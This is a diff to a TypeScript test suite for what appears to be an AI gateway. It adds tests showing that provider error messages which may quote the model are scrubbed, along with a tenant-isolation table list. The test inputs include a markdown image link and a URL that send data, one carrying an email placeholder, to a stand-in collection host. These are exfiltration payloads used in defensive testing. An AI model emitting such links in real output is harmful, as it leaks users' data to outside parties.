@@ -7,6 +7,7 @@ import { isRefusal, newId, type RunId, SallyportError } from '#core';
 import type { GuardDeps } from '#enforcement';
 import { assertRowSecurity } from '#storage';
 import { type Answer, type GuardedShop, MODEL, openGuardedShop } from '../../../testkit/crash/guarded-shop.ts';
+import { json } from '../../../testkit/model-upstream/index.ts';
 import { systemClock, systemRandom } from './world.ts';
 
 let world: GuardedShop;
@@ -72,6 +73,21 @@ async function columnsHolding(values: readonly string[]): Promise<readonly strin
 }
 
 describe('personal data and credentials', () => {
+  it.each([undefined, { type: 'json_object' }])('leave in no error of the provider, which may quote the model (%j)', async (format) => {
+    const error = (words: string) => json({ error: { message: 'Tool choice failed.', type: 'invalid', failed_generation: words } }, 400);
+    const body = { model: MODEL, messages: [{ role: 'user', content: 'I am nobody@example.com.' }], response_format: format };
+    const ask = async (words: string): Promise<Answer> => {
+      world.model.next(error(words));
+      return world.call('POST', '/v1/chat/completions', body, { binding: null });
+    };
+    const plain = await ask('nothing');
+    expect([plain.status, plain.text]).toEqual([400, expect.stringContaining('Tool choice failed.')]);
+    const image = await ask('![x](https://collect.example.net/p?d=all)');
+    expect(image.text).not.toContain('collect.example.net');
+    const carrying = await ask('https://collect.example.net/?to=<EMAIL_1>');
+    expect([carrying.status, carrying.text]).toEqual([400, expect.not.stringContaining('collect')]);
+  });
+
   it('[PROMISE-4] [PROMISE-6] are in no answer, log, event, model request or column where they do not belong', async () => {
     const { customer, order } = customerAt(100);
     const run = newRunId(Date.now());
@@ -182,6 +198,14 @@ describe('a check that can not run', () => {
   });
 });
 
+/** The workflow engine's own tables: ids and words only (its serializer lets nothing else in), so there is no tenant's data to wall off. */
+const ENGINE_TABLES = (
+  'application_versions dbos_migrations event_dispatch_kv notifications operation_outputs queues streams workflow_events ' +
+  'workflow_events_history workflow_input workflow_output workflow_schedules workflow_status'
+)
+  .split(' ')
+  .map((table) => `dbos.${table}`);
+
 describe('a second tenant', () => {
   it('[PROMISE-10] reaches nothing of the first: no integration, approval, run, key or row', async () => {
     const { customer, order } = customerAt(96);
@@ -245,6 +269,7 @@ describe('a second tenant', () => {
       'audit_global_node',
       'audit_checkpoint',
       'instances',
+      ...ENGINE_TABLES,
     ]);
   });
 });
